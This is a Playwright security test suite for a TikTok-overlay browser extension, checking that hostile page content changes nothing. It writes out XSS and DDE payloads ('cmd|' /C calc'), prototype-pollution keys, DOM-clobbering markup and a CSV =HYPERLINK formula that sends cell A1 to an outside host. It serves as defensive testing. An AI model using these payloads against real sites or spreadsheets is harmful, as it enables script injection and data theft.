import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import type { Answer } from '../../scripts/browser';
import { creatorFor } from '../site/creators';
import { createSite } from '../site/site';
import { addressOf } from '../site/tile';
import { videosOf } from '../site/videos';
import { expect, test } from './harness';

// The page is an enemy: it writes what it likes, where it likes, and it is there before us.

const card = (page: Page) => page.locator('permille-card[data-permille=card]');
const badges = (page: Page) => page.locator('permille-badge[data-permille=badge]');
const { handle, name } = creatorFor('micro');
const profile = `https://www.tiktok.com/@${handle}`;

/** Ends tags, opens others, runs, turns the writing round and hides in it. */
const wicked = `"'></script><script>window.ran=1</script><img src=x onerror="window.ran=1"><svg onload="window.ran=1">\u202Edlrow\u2066\u200B\u200D\uFEFF\u0000{{7*7}}\${7*7}=cmd|' /C calc'!A0`;
const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const inJson = (text: string) => JSON.stringify(text).slice(1, -1).replaceAll('<', '\\u003c');

/** The synthetic site, its documents rewritten on the way. */
function rewritten(change: (body: string) => string, policy?: (policy: string) => string) {
  const site = createSite({ now: new Date() });
  return (url: string): Answer => {
    const answer = site.respond(url);
    if (!answer.contentType.startsWith('text/html')) return answer;
    const { 'content-security-policy': given = '' } = answer.headers;
    return {
      ...answer,
      headers: { ...answer.headers, 'content-security-policy': policy?.(given) ?? given },
      body: change(answer.body),
    };
  };
}

/** Runs `script` in the page before anything of the page or of ours. */
const withScript = (script: string) => (body: string) =>
  body.replace(/<script nonce="([^"]+)">/, (tag) => `${tag}${script}</script>${tag}`);

const ranIn = (page: Page) => page.evaluate(() => 'ran' in window);

test('names, captions and data full of markup are shown as text, and nothing of it runs', async ({
  page,
  popup,
  browserWithExtension,
}) => {
  browserWithExtension.answers.current = rewritten((body) => {
    const [head = '', data = ''] = body.split('<script id="__UNIVERSAL_DATA');
    return [
      head
        .replaceAll(`>${name}<`, `>${escaped(wicked)}<`)
        .replaceAll(/ alt="[^"]*"/g, ` alt="${escaped(wicked)}"`),
      data.replaceAll(`"nickname":"${name}"`, `"nickname":"${inJson(wicked)}"`),
    ].join('<script id="__UNIVERSAL_DATA');
  });
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
  const view = await popup();
  await expect(view.getByTestId('month')).toContainText('a month');
  await expect(view.getByText('window.ran=1', { exact: false }).first()).toBeVisible();
  await expect(view.locator('img[src=x], svg[onload]')).toHaveCount(0);
  expect(await ranIn(page)).toBe(false);
  expect(await ranIn(view)).toBe(false);
  expect(await view.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
});

test('keys of prototypes in the data change no prototype', async ({
  page,
  popup,
  browserWithExtension,
}) => {
  const evil = `"__proto__":{"polluted":1,"followerCount":"9"},"constructor":{"prototype":{"polluted":1}},"toString":1,`;
  browserWithExtension.answers.current = rewritten((body) =>
    body.replaceAll(
      /"(?:user|stats|statsV2|userInfo|webapp\.user-detail)":\{/g,
      (key) => key + evil,
    ),
  );
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  const view = await popup();
  await expect(view.getByTestId('month')).toContainText('a month');
  const polluted = () => 'polluted' in {};
  expect(await view.evaluate(polluted)).toBe(false);
  expect(await browserWithExtension.extension?.worker.evaluate(polluted)).toBe(false);
});

for (const called of ['__proto__', 'constructor', 'tostring']) {
  test(`a creator called ${called} is read, remembered and forgotten like any other`, async ({
    page,
    popup,
    options,
    browserWithExtension,
  }) => {
    const site = createSite({ now: new Date() });
    browserWithExtension.answers.current = (url) => {
      const answer = site.respond(url.replaceAll(called, handle));
      return { ...answer, body: answer.body.replaceAll(handle, called) };
    };
    await page.goto(`https://www.tiktok.com/@${called}`);
    await expect(card(page)).toHaveAttribute('data-state', 'ready');
    await expect(card(page)).toHaveAttribute('aria-label', new RegExp(`@${called} .*a month`));
    await expect(badges(page)).toHaveCount(16);
    const view = await popup();
    await expect(view.getByTestId('month')).toContainText('a month');
    const listed = await options('memory');
    await expect(listed.locator(`[data-handle="${called}"]`)).toContainText(name);
    await listed.getByRole('button', { name: `Forget @${called}` }).click();
    await expect(listed.getByText('0 creators are remembered.')).toBeVisible();
  });
}

test('texts of a megabyte neither stop the estimate nor fill the card', async ({
  page,
  browserWithExtension,
}) => {
  const long = 'a'.repeat(1_000_000);
  browserWithExtension.answers.current = rewritten((body) =>
    body
      .replaceAll(`>${name}<`, `>${long}<`)
      .replace(/ alt="[^"]*"/, ` alt="${long}"`)
      .replace(/(data-e2e="following-count"[^>]*>)[^<]*/, `$1${'9'.repeat(1_000_000)}`)
      .replace(`"nickname":"${name}"`, `"nickname":"${long}"`),
  );
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
  const label = (await card(page).getAttribute('aria-label')) ?? '';
  expect(label.length).toBeLessThan(2_000);
});

test('formulas in names and topics are no formulas in the exported table', async ({
  page,
  popup,
  browserWithExtension,
}) => {
  const now = new Date();
  const site = createSite({ now });
  const formula = `=HYPERLINK("http://elsewhere.example/?"&A1,"open")`;
  const topics = [formula, '+1', '-1', '@SUM(1)', '\t=1', '\uff1d1'];
  const video = videosOf(creatorFor('micro'), now).find(({ kind }) => kind === 'video')!;
  browserWithExtension.answers.current = (url) => {
    const answer = site.respond(url);
    const body = answer.body
      .replaceAll(`"nickname":"${name}"`, `"nickname":"${inJson(formula)}"`)
      .replace('"diversificationLabels":[]', `"diversificationLabels":${JSON.stringify(topics)}`);
    return { ...answer, body };
  };
  await page.goto(addressOf(creatorFor('micro'), video));
  await expect(page.locator('[data-permille=pill]')).toHaveAttribute('aria-label', / views/);
  const view = await popup();
  await expect(view.getByText(formula).first()).toBeVisible();
  const coming = view.waitForEvent('download');
  await view.getByRole('button', { name: 'CSV', exact: true }).click();
  const text = readFileSync(await (await coming).path(), 'utf8').replace(/^\ufeff/, '');
  const { data } = Papa.parse<Record<string, string>>(text, { header: true });
  expect(data).toHaveLength(1);
  expect(data[0]?.topics).toBe(`'${topics.join('; ')}`);
  for (const cell of Object.values(data[0] ?? {})) expect(cell).not.toMatch(/^\s*[=+\-@\uff1d]/);
});

test('data that is broken, deep or of another kind leaves what is visible', async ({
  page,
  browserWithExtension,
}) => {
  const broken = [
    (data: string) => data.slice(0, data.length / 2),
    () => '['.repeat(100_000),
    () => 'null',
    () => '{"__DEFAULT_SCOPE__":{"webapp.user-detail":{"userInfo":{"user":[],"stats":"x"}}}}',
  ];
  for (const change of broken) {
    browserWithExtension.answers.current = rewritten((body) =>
      body.replace(
        /(<script id="__UNIVERSAL_DATA_FOR_REHYDRATION__"[^>]*>)([^<]*)/,
        (_, tag: string, data: string) => tag + change(data),
      ),
    );
    await page.goto(profile);
    await expect(card(page)).toHaveAttribute('data-state', 'ready');
    await expect(badges(page)).toHaveCount(16);
  }
});

test('nodes that pretend to be ours, forged events and messages change nothing', async ({
  page,
  browserWithExtension,
}) => {
  const forged = `
    for (const kind of ['card', 'badge', 'pill', 'chip']) {
      const fake = document.createElement('div');
      fake.dataset.permille = kind;
      fake.dataset.state = 'ready';
      fake.textContent = 'forged';
      document.documentElement.append(fake);
      document.querySelectorAll('[data-e2e=user-post-item]').forEach((tile) => tile.append(fake.cloneNode(true)));
    }
    customElements.define('permille-card', class extends HTMLElement { connectedCallback() { window.seen = true; } });
    const messages = [
      { type: 'save-overlay-state', request: { patch: { cardOpen: true } } },
      { type: 'settings-changed' }, { type: 'read-tab' },
      { type: 'draw-card', request: { reading: {} } },
      { type: 'wxt:content-script-started', contentScriptName: 'tiktok' },
    ];
    addEventListener('load', () => {
      for (const message of messages) postMessage(message, '*');
      for (const type of ['wxt:locationchange', 'wxt:content-script-started', 'permille']) {
        document.dispatchEvent(new CustomEvent(type, { detail: { contentScriptName: 'tiktok' } }));
        window.dispatchEvent(new CustomEvent(type, { detail: {} }));
      }
    });`;
  browserWithExtension.answers.current = rewritten(withScript(forged));
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(card(page)).toHaveCount(1);
  await expect(badges(page)).toHaveCount(16);
  await expect(card(page)).toHaveAttribute(
    'aria-label',
    /\$[\d,.KM]+\s–\u2060?\s[\d,.KM]+ a month/,
  );
  // By this event a newer copy of our script tells the one before it to end.
  await page.evaluate((type) => {
    document.dispatchEvent(new Event(type));
    window.__site.rerender();
  }, `${browserWithExtension.extension!.id}:tiktok`);
  await expect(badges(page)).toHaveCount(16);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  // The page has no way to the extension: it is not externally connectable.
  expect(
    await page.evaluate(() => typeof (globalThis as { chrome?: typeof chrome }).chrome?.runtime),
  ).toBe('undefined');
});

test('elements that the page names after the document’s own parts take nothing from us', async ({
  page,
  browserWithExtension,
  faults,
}) => {
  // The site's own script is in the world that they are taken away from.
  faults.expect(/^TypeError: .* is not a function/);
  // An image with such a name is what `document.querySelector` then is.
  const taken = ['querySelector', 'querySelectorAll', 'createElement', 'body', 'documentElement'];
  const others = ['addEventListener', 'defaultView', 'elementsFromPoint', 'location', 'head'];
  const images = [...taken, ...others].map((key) => `<img name="${key}" alt="">`).join('');
  browserWithExtension.answers.current = rewritten((body) =>
    body.replace('</body>', `<div hidden>${images}</div></body>`),
  );
  await page.goto(profile);
  expect(await page.evaluate(`String(document.querySelector)`)).toContain('HTMLImageElement');
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
});

test('built-ins that the page has replaced are not ours', async ({
  page,
  browserWithExtension,
  faults,
}) => {
  // What the site's own script says of it.
  faults.expect(/^Error: replaced/);
  const replaced = `
    const wrong = () => { throw new Error('replaced'); };
    JSON.parse = wrong; Array.prototype.map = wrong; Element.prototype.querySelector = wrong;
    Object.defineProperty(window, 'MutationObserver', { value: class { observe() {} disconnect() {} takeRecords() { return []; } } });
    window.requestAnimationFrame = wrong; Map.prototype.get = wrong;`;
  // After the site's own script, which needs them.
  browserWithExtension.answers.current = rewritten((body) =>
    body.replace(/<script nonce="([^"]+)">([\s\S]*?)<\/script>\s*<\/body>/, (all, nonce: string) =>
      all.replace('</body>', `<script nonce="${nonce}">${replaced}</script></body>`),
    ),
  );
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
});

test('a policy that lets nothing of ours load, and Trusted Types, do not touch us', async ({
  context,
  page,
  browserWithExtension,
  faults,
}) => {
  // The site's own script makes markup of text, which such a policy refuses. We do not.
  faults.expect(/TrustedHTML/);
  browserWithExtension.answers.current = rewritten(
    (body) => body,
    (given) =>
      `${given}; require-trusted-types-for 'script'; trusted-types 'none'; frame-src 'none'`,
  );
  await page.goto(profile);
  // Playwright's own ways of looking evaluate text, which this page forbids; the debugger's do not.
  const session = await context.newCDPSession(page);
  const look = async (expression: string) =>
    (await session.send('Runtime.evaluate', { expression })).result.value as unknown;
  const host = `document.querySelector('permille-card[data-permille=card]')`;
  await expect.poll(() => look(`${host}?.dataset.state`)).toBe('ready');
  await expect.poll(() => look(`document.querySelectorAll('permille-badge').length`)).toBe(16);
  const style = `getComputedStyle(${host}.shadowRoot.querySelector('[part~=card]'))`;
  expect(await look(`${style}.borderStyle`)).toBe('solid');
  expect(await look(`getComputedStyle(document.querySelector('permille-badge')).position`)).toBe(
    'absolute',
  );
});

for (const [what, reaction] of [
  ['removes', 'node.remove()'],
  ['empties and renames', "node.textContent = ''; node.removeAttribute('data-permille')"],
] as const) {
  test(`a page that ${what} our nodes as soon as they come: we stop after a few tries`, async ({
    page,
    browserWithExtension,
    faults,
  }) => {
    faults.expect(/Permille/);
    const fight = `
      window.fought = 0;
      new MutationObserver(() => {
        for (const node of document.querySelectorAll('permille-card, permille-badge, [data-permille]')) {
          if (node.dataset.fought) continue;
          node.dataset.fought = '1';
          if (node.localName === 'permille-card') window.fought += 1;
          ${reaction};
        }
      }).observe(document, { childList: true, subtree: true, attributes: true });`;
    browserWithExtension.answers.current = rewritten(withScript(fight));
    await page.goto(profile);
    await expect
      .poll(() => page.evaluate(() => Number(Reflect.get(window, 'fought'))))
      .toBeGreaterThan(0);
    // A hundred changes of the page, each of which would be a reason to draw again.
    await page.evaluate(async () => {
      for (let count = 0; count < 100; count += 1) {
        window.__site.rerender();
        await new Promise((resolve) => setTimeout(resolve, 30));
      }
    });
    expect(await page.evaluate(() => Number(Reflect.get(window, 'fought')))).toBeLessThanOrEqual(
      10,
    );
  });
}

test('forms whose fields are called like properties of the DOM, around app, head and tiles, change nothing', async ({
  page,
  browserWithExtension,
}) => {
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
  const labels = () =>
    badges(page).evaluateAll((all) =>
      all.slice(0, 16).map((one) => one.getAttribute('aria-label')),
    );
  const plain = await labels();

  const around = ['#app', 'user-title', 'followers-count', 'user-post-item', 'video-views'].map(
    (name) => (name.startsWith('#') ? name : `[data-e2e="${name}"]`),
  );
  const fields = [
    ...['parentElement', 'parentNode', 'children', 'childNodes', 'nodeType', 'isConnected'],
    ...['querySelector', 'querySelectorAll', 'getAttribute', 'closest', 'contains', 'matches'],
    ...['textContent', 'cloneNode', 'previousElementSibling', 'id', 'ownerDocument', 'append'],
  ];
  const wrapAll = `document.addEventListener('DOMContentLoaded', () => {
    for (const css of ${JSON.stringify(around)}) for (const found of document.querySelectorAll(css)) {
      const form = document.createElement('form');
      for (const name of ${JSON.stringify(fields)}) {
        const field = document.createElement('input');
        field.type = 'hidden';
        field.name = name;
        HTMLFormElement.prototype.append.call(form, field);
      }
      found.replaceWith(form);
      HTMLFormElement.prototype.append.call(form, found);
    }
  })`;
  browserWithExtension.answers.current = rewritten(withScript(wrapAll));
  await page.goto(profile);
  // The forms take room of their own, so that the page may show more tiles than before.
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect.poll(labels).toEqual(plain);
  expect(await page.evaluate(() => document.forms.length)).toBeGreaterThan(30);
  const hides = () => document.querySelector('form')?.parentElement instanceof HTMLInputElement;
  expect(await page.evaluate(hides)).toBe(true);
  await expect(card(page)).toHaveAttribute(
    'aria-label',
    /Seems eligible for Rewards.*Seen: \d+ videos/,
  );
});
